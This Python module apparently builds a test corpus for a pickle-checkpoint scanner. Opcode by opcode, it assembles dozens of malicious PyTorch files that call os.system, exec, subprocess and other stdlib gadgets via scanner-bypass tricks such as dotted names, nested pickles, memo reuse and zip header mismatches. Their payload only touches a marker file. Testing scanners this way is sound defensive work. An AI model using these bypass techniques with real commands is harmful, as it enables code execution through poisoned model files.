"""A corpus of malicious and control checkpoints for `statecli scan`, built in code.

Every malicious case follows a publicly documented pickle-scanner bypass class (picklescan /
modelscan / fickling issues and advisories, the JFrog and Sonatype 2024-2025 write-ups on picklescan)
or a gadget found by reading the stdlib / torch sources. Each payload, if it were ever unpickled by
`torch.load(..., weights_only=False)` or `pickle.load`, would create the marker file `<dir>/PWNED`
(`touch`, a log file, ...). Nothing here ever unpickles anything: the pickles are assembled opcode by
opcode, and the only pickles parsed are the controls written by torch.save, which are split with
`pickletools.genops` (a static opcode walk, no object is built).

    from benchmarks.scan_corpus import build_corpus
    for case in build_corpus("/tmp/corpus"):
        print(case.name, case.expected, case.path)

`expected` is the least severe verdict a correct scanner may give: "dangerous" (loading runs code),
"malformed" (a broken or ambiguous file), "needs-trust" (non-allowlisted but inert globals) or "safe".
`reaches_torch_load` is False where `torch.load` itself never unpickles the payload (a member torch
does not read, or a registry code that is unregistered in a fresh interpreter).
"""

from __future__ import annotations

import argparse
import io
import os
import shlex
import shutil
import struct
import tarfile
import warnings
import zipfile
import zlib
from typing import Any

from .pickle_bytes import (
    DANGEROUS,
    EMPTY_DICT,
    MALFORMED,
    MARK,
    MARKER,
    MEMOIZE,
    NEEDS_TRUST,
    POP,
    RANK,
    REDUCE,
    SAFE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    Case,
    TinyNet,
    binbytes,
    binget,
    binput,
    binunicode,
    call,
    glob,
    legacy_bytes,
    magic_long,
    proto,
    replace_member,
    sample_state_dict,
    sglob,
    split_pickles,
    str_list,
    torch_zip_bytes,
    uni,
    wrap,
    write_zip,
    zip_members,
    zip_records,
)

# -- the corpus -------------------------------------------------------------------------------------

def build_corpus(directory: str | os.PathLike[str], heavy: bool = False) -> list[Case]:
    """Write every case under `directory` and return them. The marker a payload would create is
    `directory/PWNED`. `heavy` adds a case with a 1 GiB (deflated to ~1 MiB) data.pkl."""
    import torch
    from safetensors.torch import save_file

    d = os.fspath(directory)
    os.makedirs(d, exist_ok=True)
    marker = os.path.join(d, MARKER)
    cmd = "touch " + shlex.quote(marker)
    pycode = f"import os; os.system({cmd!r})"
    cases: list[Case] = []

    def add(name: str, data: bytes, expected: str, technique: str, ext: str = ".pt", torch_load: bool = True) -> None:
        path = os.path.join(d, name + ext)
        with open(path, "wb") as f:
            f.write(data)
        cases.append(Case(name, path, expected, technique, torch_load))

    sd = sample_state_dict()
    real = torch_zip_bytes(sd)
    real_pkl = dict(zip_members(real))[next(n for n, _ in zip_members(real) if n.endswith("/data.pkl"))]

    def in_zip(body: bytes, p: int = 2) -> bytes:
        return replace_member(real, "/data.pkl", wrap(body, p))

    def injected(body: bytes) -> bytes:
        """The real data.pkl with the payload spliced in after PROTO: the loader still gets the
        real state dict back (and runs the payload first)."""
        return replace_member(real, "/data.pkl", real_pkl[:2] + body + POP + real_pkl[2:])

    os_system = call(glob("os", "system"), binunicode(cmd))

    # -- controls ----------------------------------------------------------------------------------
    add("control-state-dict", real, SAFE, "control: torch.save of a plain state dict")
    sf = os.path.join(d, "control-safetensors.safetensors")
    save_file(sd, sf, metadata={"format": "pt"})
    cases.append(Case("control-safetensors", sf, SAFE, "control: safetensors file"))
    add("control-legacy-state-dict", legacy_bytes(sd), SAFE, "control: legacy (pre-1.6, non-zip) torch.save of a state dict")
    add("control-argparse-namespace", torch_zip_bytes({"state_dict": sd, "args": argparse.Namespace(lr=0.1, epochs=3)}),
        NEEDS_TRUST, "control: hyper-parameters as argparse.Namespace (inert class, needs trust)")
    torch.manual_seed(0)
    if TinyNet is not None:
        add("control-full-model", torch_zip_bytes(TinyNet()), NEEDS_TRUST,
            "control: torch.save(model) of a module-level nn.Module class")

    # -- plain globals -------------------------------------------------------------------------------
    add("global-os-system-p2", injected(os_system), DANGEROUS,
        "GLOBAL os.system + REDUCE spliced into a real data.pkl (protocol 2)")
    add("stack-global-os-system-p4",
        in_zip(sglob("os", "system") + MEMOIZE + uni(cmd) + MEMOIZE + TUPLE1 + MEMOIZE + REDUCE, 4), DANGEROUS,
        "STACK_GLOBAL os.system with adjacent string operands (protocol 4)")
    add("raw-pickle-bin-extension", wrap(os_system), DANGEROUS,
        "bare pickle (no zip) named .bin: torch.load's legacy path unpickles it as the magic number "
        "(Sonatype/JFrog 2025 extension bypasses)", ext=".bin")

    # -- memo confusion ----------------------------------------------------------------------------
    add("memo-binget-operands",
        in_zip(uni("os") + binput(10) + POP + uni("system") + binput(11) + POP + uni("noise") + POP
               + binget(10) + binget(11) + STACK_GLOBAL + uni(cmd) + TUPLE1 + REDUCE, 4), DANGEROUS,
        "STACK_GLOBAL operands stored with BINPUT and fetched with BINGET (not adjacent strings)")
    add("memo-memoize-operands",
        in_zip(uni("system") + MEMOIZE + POP + uni("os") + MEMOIZE + POP
               + binget(1) + binget(0) + STACK_GLOBAL + uni(cmd) + TUPLE1 + REDUCE, 4), DANGEROUS,
        "STACK_GLOBAL operands stored with MEMOIZE, fetched out of order with BINGET")
    add("memo-slot-overwritten",
        in_zip(uni("collections") + binput(1) + uni("OrderedDict") + binput(2) + STACK_GLOBAL + POP
               + uni("os") + binput(1) + POP + uni("system") + binput(2) + POP
               + binget(1) + binget(2) + STACK_GLOBAL + uni(cmd) + TUPLE1 + REDUCE, 4), DANGEROUS,
        "memo slots first used for a benign STACK_GLOBAL, then overwritten with os/system and reused")

    # -- protocol 0 ------------------------------------------------------------------------------
    add("proto0-global", replace_member(real, "/data.pkl", b"cos\nsystem\n(S" + repr(cmd).encode() + b"\ntR0(dp0\n."),
        DANGEROUS, "protocol 0 text pickle: c GLOBAL + S STRING + REDUCE in data.pkl")
    add("proto0-inst", replace_member(real, "/data.pkl", b"(S" + repr(cmd).encode() + b"\nios\nsystem\n0(dp0\n."),
        DANGEROUS, "protocol 0 INST opcode (i): os.system instantiated from the mark")

    # -- aliases and Python 2 names ----------------------------------------------------------------
    add("posix-system", in_zip(call(glob("posix", "system"), binunicode(cmd))), DANGEROUS, "posix.system (os alias)")
    add("nt-system", in_zip(call(glob("nt", "system"), binunicode(cmd))), DANGEROUS, "nt.system (Windows os alias)")
    add("py2-builtin-eval", in_zip(call(glob("__builtin__", "eval"), binunicode(f"__import__('os').system({cmd!r})"))),
        DANGEROUS, "Python 2 name __builtin__.eval, mapped by _compat_pickle under protocol 2")
    add("py2-commands-getoutput", in_zip(call(glob("commands", "getoutput"), binunicode(cmd))), DANGEROUS,
        "Python 2 commands.getoutput, mapped to subprocess.getoutput under protocol 2")

    # -- indirection through builtins and friends -----------------------------------------------------
    os_mod = call(glob("importlib", "import_module"), binunicode("os"))
    add("getattr-import-module",
        in_zip(call(call(glob("builtins", "getattr"), os_mod, binunicode("system")), binunicode(cmd))), DANGEROUS,
        "builtins.getattr(importlib.import_module('os'), 'system')(cmd)")
    add("codecs-exec", in_zip(call(glob("builtins", "exec"), call(glob("_codecs", "encode"), binunicode(pycode),
                                                                  binunicode("latin1")))), DANGEROUS,
        "builtins.exec of bytes built with the allowlisted _codecs.encode")
    add("codecs-eval", in_zip(call(glob("builtins", "eval"), call(glob("_codecs", "encode"),
                                                                  binunicode(f"__import__('os').system({cmd!r})"),
                                                                  binunicode("latin1")))), DANGEROUS,
        "builtins.eval of bytes built with _codecs.encode")
    add("runpy-run-code", in_zip(call(glob("runpy", "_run_code"), binunicode(pycode), EMPTY_DICT)), DANGEROUS,
        "runpy._run_code(source, {})")
    add("subprocess-popen", in_zip(call(glob("subprocess", "Popen"), str_list(["touch", marker]))), DANGEROUS,
        "subprocess.Popen(['touch', marker])")

    # -- nested pickles ------------------------------------------------------------------------------
    inner = wrap(os_system)
    add("pickle-loads-nested", in_zip(call(glob("pickle", "loads"), binbytes(inner)), 3), DANGEROUS,
        "pickle.loads of a nested payload pickle held in BINBYTES")
    add("c-pickle-loads-nested", in_zip(call(sglob("_pickle", "loads"), binbytes(inner)), 4), DANGEROUS,
        "_pickle.loads (C module) of a nested payload pickle in BINBYTES")
    inner_zip = in_zip(os_system)
    add("torch-load-nested-zip", in_zip(call(glob("torch", "load"), call(glob("io", "BytesIO"), binbytes(inner_zip))), 3),
        DANGEROUS, "torch.load(io.BytesIO(b)) of a nested torch zip whose data.pkl is a payload")
    add("torch-serialization-load", in_zip(call(glob("torch.serialization", "load"),
                                                call(glob("io", "BytesIO"), binbytes(inner))), 3), DANGEROUS,
        "torch.serialization.load of nested bytes (a bare payload pickle)")
    add("storage-load-from-bytes-zip", in_zip(call(glob("torch.storage", "_load_from_bytes"), binbytes(inner_zip)), 3),
        DANGEROUS, "torch.storage._load_from_bytes (legit storage __reduce__) of a nested torch zip in BINBYTES")
    add("storage-load-from-bytes-codecs",
        in_zip(call(glob("torch.storage", "_load_from_bytes"),
                    call(glob("_codecs", "encode"), binunicode(inner.decode("latin1")), binunicode("latin1")))),
        DANGEROUS, "torch.storage._load_from_bytes of a nested payload encoded as protocol 2 encodes bytes: "
                   "_codecs.encode(str, 'latin1'), no BINBYTES")
    inner_p0 = b"cos\nsystem\n(S" + repr(cmd).encode() + b"\ntR."
    add("storage-load-from-bytes-proto0", in_zip(call(glob("torch.storage", "_load_from_bytes"), binbytes(inner_p0)), 3),
        DANGEROUS, "torch.storage._load_from_bytes of a nested protocol 0 pickle (no \\x80 PROTO header)")
    add("storage-load-from-bytes-truncated",
        in_zip(call(glob("torch.storage", "_load_from_bytes"), binbytes(proto(2) + os_system)), 3), DANGEROUS,
        "torch.storage._load_from_bytes of a nested payload pickle with no STOP (runs, then fails)")
    nest = inner
    for _ in range(5):
        nest = in_zip(call(glob("torch.storage", "_load_from_bytes"), binbytes(nest)), 3)
    add("storage-load-from-bytes-depth5", nest, DANGEROUS,
        "payload nested 5 levels deep through torch.storage._load_from_bytes")

    # -- callable wrappers ---------------------------------------------------------------------------
    add("functools-partial", in_zip(call(call(glob("functools", "partial"), glob("os", "system"), binunicode(cmd)))),
        DANGEROUS, "functools.partial(os.system, cmd)()")
    add("c-functools-partial", in_zip(call(call(glob("_functools", "partial"), glob("posix", "system"), binunicode(cmd)))),
        DANGEROUS, "_functools.partial (C module) wrapping posix.system")
    imp_os = call(glob("builtins", "__import__"), binunicode("os"))
    add("operator-attrgetter", in_zip(call(call(call(glob("operator", "attrgetter"), binunicode("system")), imp_os),
                                           binunicode(cmd))), DANGEROUS,
        "operator.attrgetter('system')(__import__('os'))(cmd)")
    add("operator-methodcaller", in_zip(call(call(glob("operator", "methodcaller"), binunicode("system"), binunicode(cmd)),
                                             imp_os)), DANGEROUS,
        "operator.methodcaller('system', cmd)(__import__('os'))")
    add("c-operator-methodcaller-dotted",
        in_zip(call(call(sglob("_operator", "methodcaller"), uni("system"), uni(cmd)), sglob("logging", "os")), 4),
        DANGEROUS, "_operator.methodcaller('system', cmd) applied to logging.os (no blocklisted module named)")

    # -- stdlib / third-party gadgets ---------------------------------------------------------------
    add("numpy-runstring", in_zip(call(glob("numpy.testing._private.utils", "runstring"), binunicode(pycode), EMPTY_DICT)),
        DANGEROUS, "numpy.testing._private.utils.runstring(source, {}) (exec)")
    add("pip-main", in_zip(call(glob("pip", "main"), str_list(["--log", marker, "help"]))), DANGEROUS,
        "pip.main([...]) (Sonatype 2025 picklescan bypass); here it writes its log to the marker")
    add("timeit-timeit", in_zip(call(glob("timeit", "timeit"), binunicode("pass"), binunicode(pycode))), DANGEROUS,
        "timeit.timeit('pass', setup=source) (exec of setup)")
    interp = call(sglob("code", "InteractiveInterpreter"))
    add("code-interactive-interpreter", in_zip(call(sglob("code", "InteractiveInterpreter.runsource"), interp,
                                                    uni(pycode)), 4), DANGEROUS,
        "code.InteractiveInterpreter.runsource via a dotted STACK_GLOBAL name")
    add("asyncio-subprocess", in_zip(call(glob("asyncio", "run"),
                                          call(glob("asyncio.subprocess", "create_subprocess_shell"), binunicode(cmd)))),
        DANGEROUS, "asyncio.run(asyncio.subprocess.create_subprocess_shell(cmd)) (submodule, JFrog 2025)")
    add("torch-collect-env-run", in_zip(call(glob("torch.utils.collect_env", "run"), binunicode(cmd))), DANGEROUS,
        "torch.utils.collect_env.run(cmd): subprocess.Popen(shell=True) inside torch")
    body = EMPTY_DICT + binunicode("code") + binunicode("x = 1\n") + SETITEM
    add("torch-fx-reduce-graph-module", in_zip(call(glob("torch.fx.graph_module", "reduce_graph_module"), body,
                                                    binunicode(pycode + "\n"))), DANGEROUS,
        "torch.fx.graph_module.reduce_graph_module(body, import_block): GraphModule's own __reduce__, execs source")
    add("osx-support-read-output", in_zip(call(glob("_osx_support", "_read_output"), binunicode(cmd))), DANGEROUS,
        "_osx_support._read_output(cmd): os.system, pure Python, importable on Linux")
    add("imaplib-imap4-stream", in_zip(call(glob("imaplib", "IMAP4_stream"), binunicode(cmd))), DANGEROUS,
        "imaplib.IMAP4_stream(cmd): subprocess.Popen(cmd, shell=True)")
    add("pydoc-pipepager", in_zip(call(glob("pydoc", "pipepager"), binunicode(""), binunicode(cmd))), DANGEROUS,
        "pydoc.pipepager('', cmd): subprocess.Popen(cmd, shell=True)")
    add("uuid-get-command-stdout", in_zip(call(glob("uuid", "_get_command_stdout"), binunicode("touch"),
                                               binunicode(marker))), DANGEROUS,
        "uuid._get_command_stdout('touch', marker): subprocess.Popen of a PATH command")

    # -- dotted names in STACK_GLOBAL / GLOBAL under protocol 4 ------------------------------------
    add("dotted-builtins-eval-call", in_zip(call(sglob("builtins", "eval.__call__"),
                                                 uni(f"__import__('os').system({cmd!r})")), 4), DANGEROUS,
        "STACK_GLOBAL builtins 'eval.__call__' (dotted name)")
    add("dotted-os-system-call", in_zip(call(sglob("os", "system.__call__"), uni(cmd)), 4), DANGEROUS,
        "STACK_GLOBAL os 'system.__call__' (dotted name)")
    add("dotted-ospath-os-system", in_zip(call(sglob("os.path", "os.system"), uni(cmd)), 4), DANGEROUS,
        "STACK_GLOBAL module 'os.path' name 'os.system'")
    add("dotted-logging-os-system", in_zip(call(sglob("logging", "os.system"), uni(cmd)), 4), DANGEROUS,
        "STACK_GLOBAL module 'logging' name 'os.system': any module that imports os reaches it")
    add("dotted-torch-os-system", in_zip(call(glob("torch", "os.system"), binunicode(cmd)), 4), DANGEROUS,
        "GLOBAL module 'torch' name 'os.system' under PROTO 4 (find_class resolves dotted names)")
    add("dotted-torch-serialization-load", in_zip(call(sglob("torch", "serialization.load"),
                                                       call(sglob("io", "BytesIO"), binbytes(inner))), 4), DANGEROUS,
        "STACK_GLOBAL torch 'serialization.load' of nested bytes")

    # -- EXT opcodes ---------------------------------------------------------------------------------
    add("ext1-copyreg-registry", in_zip(b"\x82\x01" + MARK + binunicode(cmd) + TUPLE + REDUCE), NEEDS_TRUST,
        "EXT1 code 1: resolves through the loader's copyreg extension registry (empty in a fresh interpreter; "
        "os.system if the loading process registered it), so no scanner can call it safe",
        torch_load=False)

    # -- zip container differentials ------------------------------------------------------------------
    payload_pkl = wrap(os_system)
    arch = replace_member(real, "/data.pkl", payload_pkl)
    names = [n for n, _ in zip_members(arch)]
    data_idx = next(i for i, n in enumerate(names) if n.endswith("/data.pkl"))
    local, central = zip_records(arch)
    pkl_name = names[data_idx].encode()
    fake = pkl_name[: -len(b"data.pkl")] + b"data/999"  # same length: a tensor record to a local-header walker
    b = bytearray(arch)
    b[local[data_idx] + 30: local[data_idx] + 30 + len(fake)] = fake
    add("zip-local-name-differs", bytes(b), DANGEROUS,
        "local header names the payload member 'archive/data/999' (a tensor), central directory 'data.pkl' "
        "(Sonatype 2025 filename mismatch)")

    members = zip_members(real)
    pkl_at = next(i for i, (n, _) in enumerate(members) if n.endswith("/data.pkl"))
    dup = members[: pkl_at + 1] + [(members[pkl_at][0], payload_pkl)] + members[pkl_at + 1:]
    add("zip-duplicate-data-pkl", write_zip(dup), DANGEROUS,
        "two 'archive/data.pkl' members: benign first, payload second")
    prefix = members[0][0].split("/", 1)[0]
    add("zip-second-top-folder", write_zip([("model/data.pkl", payload_pkl)] + members), DANGEROUS,
        f"payload 'model/data.pkl' as the first entry (torch takes the first entry's folder) next to '{prefix}/'")
    b = bytearray(arch)
    b[local[data_idx] + 6] |= 1
    b[central[data_idx] + 8] |= 1
    add("zip-encrypted-flag", bytes(b), DANGEROUS, "encryption bit set on data.pkl in both headers (Sonatype 2025 flag bits)")
    b = bytearray(arch)
    crc = struct.pack("<I", zlib.crc32(payload_pkl) ^ 0xFFFFFFFF)
    b[local[data_idx] + 14: local[data_idx] + 18] = crc
    b[central[data_idx] + 16: central[data_idx] + 20] = crc
    add("zip-crc-mismatch", bytes(b), DANGEROUS, "wrong CRC-32 on the payload data.pkl (JFrog 2025: torch ignores CRCs)")
    add("zip-extra-pkl", write_zip(members + [(f"{prefix}/extra.pkl", payload_pkl)]), DANGEROUS,
        "payload in archive/extra.pkl, a member torch.load never reads", torch_load=False)
    add("zip-constants-pkl", write_zip(members + [(f"{prefix}/constants.pkl", payload_pkl)]), DANGEROUS,
        "payload in archive/constants.pkl (TorchScript's constants; torch.load hands such files to torch.jit.load)",
        torch_load=False)
    add("zip-deflated-data-pkl", write_zip([(n, payload_pkl if n.endswith("/data.pkl") else x) for n, x in members],
                                           zipfile.ZIP_DEFLATED), DANGEROUS,
        "payload data.pkl stored deflate-compressed (scanners that regex raw bytes see nothing)")

    # -- legacy (non-zip) format ------------------------------------------------------------------
    legacy = legacy_bytes(sd)
    (magic, ver, sysinfo), rest = split_pickles(legacy, 3)
    add("legacy-magic-payload", proto(2) + os_system + POP + magic_long() + STOP + ver + sysinfo + rest, DANGEROUS,
        "legacy file whose first pickle (the magic number) runs os.system before returning the magic")
    add("legacy-magic-prefixed-payload", proto(2) + magic_long() + POP + os_system + POP
        + magic_long() + STOP + ver + sysinfo + rest, DANGEROUS,
        "legacy file starting with the exact magic-number bytes, payload after a POP in the same pickle")
    add("legacy-protocol-payload", magic + proto(2) + os_system + POP + b"M\xe9\x03" + STOP + sysinfo + rest, DANGEROUS,
        "legacy file whose second pickle (the protocol version 1001) runs os.system before returning 1001")
    add("legacy-sysinfo-payload", magic + ver + proto(2) + os_system + POP + EMPTY_DICT + STOP + rest, DANGEROUS,
        "legacy file whose sys_info pickle (the third) is a payload")
    add("legacy-proto4-magic-sysinfo", proto(4) + magic_long() + STOP + ver + proto(2) + os_system + POP + EMPTY_DICT
        + STOP + rest, DANGEROUS,
        "legacy file whose magic pickle is written with PROTO 4 (same value), payload in sys_info")
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.USTAR_FORMAT, encoding="latin-1") as tar:
        for tname, tdata in (("\x80\x02N.", b""), ("storages", wrap(os_system)), ("tensors", b""), ("pickle", b"")):
            info = tarfile.TarInfo(tname)
            info.size = len(tdata)
            tar.addfile(info, io.BytesIO(tdata))
    add("legacy-tar-storages", tbuf.getvalue(), DANGEROUS,
        "pre-0.4 tar-format torch file: payload in the 'storages' member, first member named '\\x80\\x02N.' "
        "so the tar header parses as a benign pickle")

    # -- torch.distributed.checkpoint (.metadata is read with plain pickle.load) -----------------------
    dcp_meta = _dcp_metadata(sd, os.path.join(d, "_dcp_template"))

    def add_dcp(name: str, body: bytes, expected: str, technique: str) -> None:
        folder = os.path.join(d, name)
        shutil.copytree(os.path.join(d, "_dcp_template"), folder)
        with open(os.path.join(folder, ".metadata"), "wb") as f:
            f.write(dcp_meta[:2] + body + POP + dcp_meta[2:])
        cases.append(Case(name, folder, expected, technique))

    add_dcp("dcp-metadata-os-system", os_system, DANGEROUS,
            "DCP checkpoint folder whose .metadata (plain pickle.load in torch) runs os.system, real Metadata kept")
    add_dcp("dcp-metadata-trusted-prefix-dotted",
            call(sglob("torch.distributed.checkpoint.filesystem", "os.system"), uni(cmd)), DANGEROUS,
            "DCP .metadata: STACK_GLOBAL module 'torch.distributed.checkpoint.filesystem' name 'os.system' "
            "(dotted name under a trusted DCP prefix)")
    shutil.rmtree(os.path.join(d, "_dcp_template"))

    # -- truncated streams -------------------------------------------------------------------------
    add("truncated-after-payload", replace_member(real, "/data.pkl", proto(2) + os_system + EMPTY_DICT), DANGEROUS,
        "data.pkl payload with no STOP: it runs before the unpickler hits the end")
    add("truncated-state-dict", replace_member(real, "/data.pkl", real_pkl[: len(real_pkl) // 2]), MALFORMED,
        "a real data.pkl cut in half", torch_load=False)

    from .scan_corpus_hidden import add_cases  # imports torch at module level: only when a corpus is built

    add_cases(add, real, real_pkl, sd, os_system, marker)

    if heavy:
        add("zip-oversized-data-pkl", _oversized(real, payload_pkl), DANGEROUS,
            "payload data.pkl padded after STOP to 1 GiB + 1 (deflated to ~1 MiB): over scanners' size caps")
    return cases


def _dcp_metadata(sd: dict[str, Any], folder: str) -> bytes:
    """Save `sd` as a single-process torch.distributed.checkpoint into `folder`; its .metadata bytes."""
    import torch.distributed.checkpoint as dcp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # no process group: DCP warns and saves single-process
        dcp.save(sd, checkpoint_id=folder)
    with open(os.path.join(folder, ".metadata"), "rb") as f:
        data = f.read()
    assert data[:2] == b"\x80\x04", data[:2]  # the payload goes between PROTO and the first FRAME
    return data


def _oversized(real: bytes, payload: bytes) -> bytes:
    """A torch archive whose data.pkl is the payload followed by zeros to just over 1 GiB."""
    out = io.BytesIO()
    size = (1 << 30) + 1
    chunk = bytes(1 << 20)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in zip_members(real):
            if not name.endswith("/data.pkl"):
                zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, zipfile.ZIP_STORED)
                continue
            with zf.open(name, "w", force_zip64=True) as w:
                w.write(payload)
                left = size - len(payload)
                while left > 0:
                    n = min(left, len(chunk))
                    w.write(chunk[:n])
                    left -= n
    return out.getvalue()


def severity(verdict: str) -> int:
    return RANK.get(verdict, -1)

__all__ = ["build_corpus", "severity"]
